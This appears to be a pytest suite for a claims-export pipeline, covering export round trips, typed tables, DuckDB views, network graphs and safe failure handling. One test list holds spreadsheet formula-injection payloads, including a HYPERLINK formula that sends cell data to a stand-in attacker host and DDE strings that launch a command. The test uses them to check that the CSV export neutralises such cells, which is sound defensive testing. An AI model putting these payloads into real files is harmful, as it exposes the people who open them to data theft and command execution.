"""Exports and summaries: round trips, typed tables, failure safety, the seed network."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.cli import main
from pipeline.errors import ClaimsError
from pipeline.export.tables import TABLES, export, graph, load_records, read_tables, tables
from pipeline.models import (
    ActorRecord,
    Candidate,
    CertaintyRecord,
    ClaimRecord,
    Cue,
    Mention,
    ProbabilityBand,
    Provenance,
    RegionRecord,
    RelationRecord,
    StanceRecord,
)
from tests.conftest import GOLD

STATES = ["RUS", "IRN", "USA", "SYR", "TUR", "ARM", "AZE"]
ACTOR_IDS = [*STATES, "org:nato", "person:vladimir-putin", "group:kurds"]
REGION_IDS = ["SYR", "IRQ", "region:middle-east", "place:gyumri"]
text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=30
).filter(lambda s: s.strip() == s and s)


@st.composite
def span_fields(draw):
    start = draw(st.integers(0, 10_000))
    return {"start": start, "end": start + draw(st.integers(1, 200)), "text": draw(text)}


@st.composite
def records(draw):
    actors = draw(st.lists(st.sampled_from(ACTOR_IDS), unique=True, max_size=4))
    regions = draw(st.lists(st.sampled_from(REGION_IDS), unique=True, max_size=3))
    mention = st.builds(
        lambda f, how: Mention(**f, resolved_by=how),
        span_fields(),
        st.sampled_from(["name", "alias", "demonym", "metonymy", "coreference"]),
    )
    band = draw(st.none() | st.just(ProbabilityBand(term="likely", low=0.55, high=0.8)))
    relations = []
    if len(actors) >= 2:
        for _ in range(draw(st.integers(0, 3))):
            source, target = draw(st.permutations(actors))[:2]
            relations.append(
                RelationRecord(
                    source=source, target=target,
                    polarity=draw(st.sampled_from(["cooperative", "hostile"])),
                    cue=Cue(**draw(span_fields())),
                )
            )  # fmt: skip
    return ClaimRecord(
        claim_id=f"c_{draw(st.integers(0, 2**60)):016x}",
        doc_id=draw(st.sampled_from(["doc-a", "doc-b"])),
        **draw(span_fields()),
        section=draw(st.none() | text),
        sentence_index=draw(st.integers(0, 500)),
        actors=[
            ActorRecord(id=a, type="state", name=a, country=a if a in STATES else None,
                        mentions=draw(st.lists(mention, min_size=1, max_size=2)))
            for a in actors
        ],
        regions=[
            RegionRecord(id=g, type="country", name=g,
                         parents=draw(st.lists(st.sampled_from(["region:asia", "ARM"]),
                                               unique=True, max_size=2)),
                         mentions=draw(st.lists(mention, min_size=1, max_size=2)))
            for g in regions
        ],
        candidates=[Candidate(**draw(span_fields()), label="PERSON")] * draw(st.integers(0, 1)),
        stance=StanceRecord(label=draw(st.sampled_from(["convergent", "divergent", "neutral"])),
                            focal=["RUS", "IRN"], cues=[]),
        certainty=CertaintyRecord(label=draw(st.sampled_from(["asserted", "hedged", "reported"])),
                                  cues=[], probability=band),
        relations=relations,
        provenance=Provenance(doc_sha256="0" * 64, pipeline_version="0.1.0",
                              model_name="en_core_web_sm", model_version="3.8.0"),
    )  # fmt: skip


def content(records_or_tables) -> dict[str, set]:
    """What must survive a round trip: claims, actors, regions, relations."""
    t = records_or_tables if isinstance(records_or_tables, dict) else tables(records_or_tables)
    claims = t["claims"].to_pylist()
    return {
        "claims": {
            (c["claim_id"], c["doc_id"], c["start"], c["end"], c["text"], c["section"],
             c["stance"], c["certainty"], c["probability_low"])
            for c in claims
        },
        "actors": {(a["claim_id"], a["actor_id"], a["country"])
                   for a in t["claim_actors"].to_pylist()},
        "regions": {(g["claim_id"], g["region_id"], g["parents"])
                    for g in t["claim_regions"].to_pylist()},
        "relations": {(r["claim_id"], r["source"], r["target"], r["polarity"])
                      for r in t["relations"].to_pylist()},
    }  # fmt: skip


@pytest.mark.parametrize("suffix", [".parquet", ".csv", ".duckdb"])
@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(batch=st.lists(records(), max_size=6, unique_by=lambda r: r.claim_id))
def test_export_round_trip_keeps_content(tmp_path, suffix, batch):
    dest = tmp_path / f"out-{len(batch)}-{abs(hash(tuple(r.claim_id for r in batch)))}{suffix}"
    export(batch, dest)
    back = read_tables(dest)
    assert content(back) == content(batch)
    for name, table in tables(batch).items():
        assert back[name].num_rows == table.num_rows, name


@pytest.mark.parametrize("section", ["NaN", "", "null", "N/A", None])
@pytest.mark.parametrize("suffix", [".parquet", ".csv", ".duckdb"])
def test_export_text_that_looks_null_survives(tmp_path, suffix, section):
    record = load_records(seed_records_file(tmp_path))[0]
    batch = [record.model_copy(update={"section": section})]
    dest = tmp_path / f"out{suffix}"
    export(batch, dest)
    back = read_tables(dest)
    assert back["claims"].to_pylist()[0]["section"] == section


# Cells a spreadsheet would evaluate (OWASP, "CSV Injection"), and text that is left alone.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'quoted already",
]
HARMLESS = ["Syria", "a=b", " =1+1", "(-2)"]


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".duckdb"])
def test_export_csv_neutralises_formulas_others_keep_exact_values(tmp_path, runner, suffix):
    import csv

    records = load_records(seed_records_file(tmp_path))[: len(FORMULAS) + len(HARMLESS)]
    values = FORMULAS + HARMLESS
    batch = [
        r.model_copy(update={"section": v, "text": v}) for r, v in zip(records, values, strict=True)
    ]
    source = tmp_path / "formulas.jsonl"
    source.write_text("".join(r.model_dump_json() + "\n" for r in batch), "utf-8")
    dest = tmp_path / f"out{suffix}"
    result = runner.invoke(main, ["export", str(source), "--to", str(dest)])
    assert result.exit_code == 0, result.output
    back = {c["claim_id"]: c for c in read_tables(dest)["claims"].to_pylist()}
    assert [(back[r.claim_id]["section"], back[r.claim_id]["text"]) for r in batch] == [
        (v, v) for v in values
    ]  # every format reads back the exact values
    if suffix != ".csv":
        return
    with open(dest / "claims.csv", newline="", encoding="utf-8") as handle:
        cells = {row["claim_id"]: row for row in csv.DictReader(handle)}
    for record, value in zip(batch, values, strict=True):
        shown = "'" + value if value in FORMULAS else value
        assert cells[record.claim_id]["section"] == shown
        assert cells[record.claim_id]["text"] == shown


def test_export_tables_are_typed(tmp_path):
    exported = tables(load_records(seed_records_file(tmp_path)))
    claims = exported["claims"].schema
    assert str(claims.field("start").type) == "int32"
    assert str(claims.field("probability_low").type) == "double"
    assert exported["claims"].num_rows > 50
    assert set(exported) == set(TABLES)


def test_export_empty_records_give_empty_tables(tmp_path, runner):
    empty = tmp_path / "empty.jsonl"
    empty.write_text("")
    result = runner.invoke(main, ["export", str(empty), "--to", str(tmp_path / "t.parquet")])
    assert result.exit_code == 0, result.output
    back = read_tables(tmp_path / "t.parquet")
    assert all(back[name].num_rows == 0 for name in TABLES)
    assert back["claims"].schema.names[0] == "claim_id"


def test_export_broken_line_names_file_and_line(tmp_path, runner):
    broken = tmp_path / "broken.jsonl"
    broken.write_text(seed_records_file(tmp_path).read_text().splitlines()[0] + "\n{oops\n")
    result = runner.invoke(main, ["export", str(broken), "--to", str(tmp_path / "t.duckdb")])
    assert result.exit_code == 2
    assert f"{broken}:2: not valid JSON" in result.output
    assert not (tmp_path / "t.duckdb").exists()


def test_export_failure_leaves_no_partial_output(tmp_path, monkeypatch):
    import pipeline.export.tables as module

    records = load_records(seed_records_file(tmp_path))
    dest = tmp_path / "out.parquet"
    export(records, dest)
    before = sorted(p.name for p in dest.iterdir())

    def explode(data, folder, kind):
        (folder / "claims.parquet").parent.mkdir(parents=True, exist_ok=True)
        (folder / "claims.parquet").write_text("half")
        raise OSError("disk full")

    monkeypatch.setattr(module, "write_tables", explode)
    with pytest.raises(ClaimsError, match="cannot write the export: disk full"):
        export(records, dest)
    assert sorted(p.name for p in dest.iterdir()) == before
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_export_unknown_destination_is_a_user_error(tmp_path, runner):
    records_file = seed_records_file(tmp_path)
    result = runner.invoke(main, ["export", str(records_file), "--to", str(tmp_path / "x.xlsx")])
    assert result.exit_code == 2
    assert "cannot tell the export format" in result.output


def test_export_duckdb_view_answers_questions(tmp_path):
    import duckdb

    dest = tmp_path / "claims.duckdb"
    export(load_records(seed_records_file(tmp_path)), dest)
    con = duckdb.connect(str(dest), read_only=True)
    rows = con.execute(
        "select target, count(distinct claim_id) from claim_facts "
        "where source = 'RUS' and polarity = 'hostile' group by target order by 2 desc"
    ).fetchall()
    con.close()
    assert rows[0][0] == "USA"


@pytest.mark.parametrize("suffix", [".graphml", ".json"])
def test_export_network_shows_the_seed_alignment(tmp_path, suffix):
    import networkx as nx

    records = load_records(seed_records_file(tmp_path))
    dest = tmp_path / f"network{suffix}"
    export(records, dest)
    if suffix == ".graphml":
        g = nx.read_graphml(dest)
    else:
        g = nx.node_link_graph(json.loads(dest.read_text()), edges="edges")
    for focal in ("RUS", "IRN"):
        for target in ("SYR", "ARM"):
            assert g.edges[focal, target]["cooperative"] >= 1, (focal, target)
        for target in ("USA", "org:nato", "AZE"):
            assert g.edges[focal, target]["hostile"] >= 1, (focal, target)
    assert g.nodes["RUS"]["type"] == "state" and g.nodes["RUS"]["name"] == "Russia"
    assert graph(records).edges["RUS", "USA"]["claim_ids"]


def test_export_summary_tables_and_plots(tmp_path, runner):
    records_file = seed_records_file(tmp_path)
    figures = tmp_path / "figures"
    result = runner.invoke(
        main, ["summary", str(records_file), "--by", "section", "--plot", str(figures)]
    )
    assert result.exit_code == 0, result.output
    assert "Iraq and Afghanistan" in result.output
    assert "RUS -> USA (hostile)" in result.output
    for name in ("network.png", "stance_by_section.png", "certainty.png"):
        assert (figures / name).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    result = runner.invoke(main, ["summary", str(records_file), "--by", "region"])
    assert "region:middle-east" in result.output


_SEED_CACHE: dict[str, str] = {}


def seed_records_file(tmp_path: Path) -> Path:
    """The pipeline's records for the seed (computed once per session), in tmp_path."""
    if "text" not in _SEED_CACHE:
        from click.testing import CliRunner

        out = tmp_path / "seed-run.jsonl"
        result = CliRunner().invoke(
            main, ["run", str(GOLD / "documents.jsonl"), "-o", str(out), "--allow-outside-paths"]
        )
        assert result.exit_code == 0, result.output
        _SEED_CACHE["text"] = out.read_text(encoding="utf-8")
    path = tmp_path / "seed.jsonl"
    path.write_text(_SEED_CACHE["text"], encoding="utf-8")
    return path


def test_export_duckdb_file_opens_in_the_duckdb_cli(tmp_path):
    import subprocess
    import sys

    dest = tmp_path / "claims.duckdb"
    export(load_records(seed_records_file(tmp_path)), dest)
    cli = Path(sys.executable).parent / "duckdb"
    result = subprocess.run(
        [str(cli), "-csv", str(dest), "select count(*) as n from claims"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert result.stdout.split() == ["n", str(len(load_records(seed_records_file(tmp_path))))]


def seed_with_an_empty_claim(tmp_path: Path) -> list[ClaimRecord]:
    """The seed's records plus one claim with no actor, region or relation."""
    records = load_records(seed_records_file(tmp_path))
    bare = records[0].model_copy(
        update={"claim_id": "c_" + "f" * 16, "actors": [], "regions": [], "relations": []}
    )
    return [*records, bare]


def duckdb_rows(dest: Path, sql: str) -> list[tuple]:
    import duckdb

    con = duckdb.connect(str(dest), read_only=True)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()


def test_export_duckdb_views_have_their_documented_grain(tmp_path):
    records = seed_with_an_empty_claim(tmp_path)
    dest = tmp_path / "claims.duckdb"
    export(records, dest)
    assert duckdb_rows(dest, "select count(*) from claims_wide") == [(len(records),)]
    n_relations = sum(len(r.relations) for r in records)
    assert duckdb_rows(dest, "select count(*) from relation_facts") == [(n_relations,)]
    # claim_facts is a cross product: more rows than claims, one distinct claim_id each
    facts = duckdb_rows(dest, "select count(*), count(distinct claim_id) from claim_facts")
    assert facts[0][0] > len(records) and facts[0][1] == len(records)


def test_export_duckdb_claims_wide_lists_actors_states_and_regions(tmp_path):
    records = seed_with_an_empty_claim(tmp_path)
    dest = tmp_path / "claims.duckdb"
    export(records, dest)
    wide = {
        row[0]: row[1:]
        for row in duckdb_rows(dest, "select claim_id, actors, states, regions from claims_wide")
    }
    for r in records:
        states = sorted({a.country for a in r.actors if a.country})
        expected = (sorted(a.id for a in r.actors), states, sorted(g.id for g in r.regions))
        assert wide[r.claim_id] == expected, r.text
    assert wide["c_" + "f" * 16] == ([], [], [])


def test_export_duckdb_relation_facts_carry_claim_and_actors(tmp_path):
    records = load_records(seed_records_file(tmp_path))
    dest = tmp_path / "claims.duckdb"
    export(records, dest)
    got = sorted(
        duckdb_rows(
            dest,
            "select claim_id, source, source_country, target, polarity, stance from relation_facts",
        )
    )
    expected = []
    for r in records:
        country = {a.id: a.country for a in r.actors}
        for rel in r.relations:
            expected.append(
                (r.claim_id, rel.source, country[rel.source], rel.target, rel.polarity,
                 r.stance.label)
            )  # fmt: skip
    assert got == sorted(expected)


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("x.duckdb", "folder", "is a folder; this export writes a file"),
        ("x.graphml", "folder", "is a folder; this export writes a file"),
        ("x.parquet", "file", "is a file; this export writes a folder of tables"),
        ("x.csv", "foreign", "is a folder that holds other files (notes.txt), not an earlier"),
    ],
)
def test_export_refuses_a_destination_of_the_wrong_kind(tmp_path, runner, name, make, message):
    records_file = seed_records_file(tmp_path)
    dest = tmp_path / name
    if make == "file":
        dest.write_text("mine")
    else:
        dest.mkdir()
        (dest / ("notes.txt" if make == "foreign" else "keep.txt")).write_text("mine")
    before = sorted((p.relative_to(tmp_path), p.is_dir()) for p in tmp_path.rglob("*"))
    result = runner.invoke(main, ["export", str(records_file), "--to", str(dest)])
    assert result.exit_code == 2
    assert result.output.startswith(f"Error: {dest}: {message}")
    assert "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1
    assert sorted((p.relative_to(tmp_path), p.is_dir()) for p in tmp_path.rglob("*")) == before


def test_export_replaces_an_earlier_export_folder(tmp_path):
    records = load_records(seed_records_file(tmp_path))
    dest = tmp_path / "out.csv"
    export(records[:3], dest)
    export(records, dest)
    assert read_tables(dest)["claims"].num_rows == len(records)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.parametrize("suffix", [".duckdb", ".parquet"])
def test_export_under_a_file_is_a_one_line_error(tmp_path, runner, suffix):
    records_file = seed_records_file(tmp_path)
    blocker = tmp_path / "plain.txt"
    blocker.write_text("a file")
    dest = blocker / "sub" / f"x{suffix}"
    result = runner.invoke(main, ["export", str(records_file), "--to", str(dest)])
    assert result.exit_code == 2
    assert result.output == f"Error: {dest}: cannot write here: {blocker} is a file, not a folder\n"


def test_export_unwritable_folder_is_a_one_line_error(tmp_path, runner, monkeypatch):
    import tempfile

    records_file = seed_records_file(tmp_path)

    def refuse(*args, **kwargs):  # what a read-only folder does (root ignores chmod)
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkdtemp", refuse)
    dest = tmp_path / "x.duckdb"
    result = runner.invoke(main, ["export", str(records_file), "--to", str(dest)])
    assert result.exit_code == 2
    assert result.output == f"Error: {dest}: cannot write the export: Permission denied\n"


def test_export_removes_what_killed_exports_left_and_nothing_else(tmp_path):
    import os

    records = load_records(seed_records_file(tmp_path))
    dest = tmp_path / "claims.parquet"
    dead = 2**22 + 7  # above Linux's largest process id: never a running process
    stale = {
        f".claims.parquet.export-{dead}-ab12": ["claims.parquet", "mentions.parquet"],
        f".claims.parquet.old-{dead}-cd34": ["claims.parquet"],
        ".claims.parquet.k2j3h4_5": ["relations.parquet"],  # an earlier version's
    }
    kept = {
        f".claims.parquet.export-{os.getpid()}-ef56": ["claims.parquet"],  # still running
        f".claims.parquet.export-{dead}-gh78": ["claims.parquet", "my-notes.txt"],
        ".claims.parquet.notes": ["claims.parquet"],
        f".other.parquet.export-{dead}-ij90": ["claims.parquet"],
    }
    for name, inside in {**stale, **kept}.items():
        (tmp_path / name).mkdir()
        for file in inside:
            (tmp_path / name / file).write_text("half")
    export(records, dest)
    hidden = {p.name for p in tmp_path.iterdir() if p.name.startswith(".")}
    assert hidden == set(kept)
